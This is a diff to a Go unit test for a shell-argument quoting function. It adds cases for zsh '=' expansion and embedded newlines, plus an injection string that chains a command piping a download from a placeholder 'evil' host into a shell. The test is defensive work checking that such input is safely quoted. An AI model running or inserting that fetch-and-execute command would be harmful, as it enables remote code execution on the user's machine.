@@ -279,6 +279,9 @@ func TestShellArg(t *testing.T) {
 		{"price $5", `'price $5'`},
 		{"it's", `'it'\''s'`},
 		{"~root", `'~root'`},
+		{"=ls", `'=ls'`}, // zsh expands a word that begins with =
+		{"x; curl evil|sh", `'x; curl evil|sh'`},
+		{"a\nb", "'a\nb'"},
 		{"a\\b\"c", `'a\b"c'`},
 		{"température", `'température'`},
 		{strings.Repeat("l", 300), strings.Repeat("l", 300)},
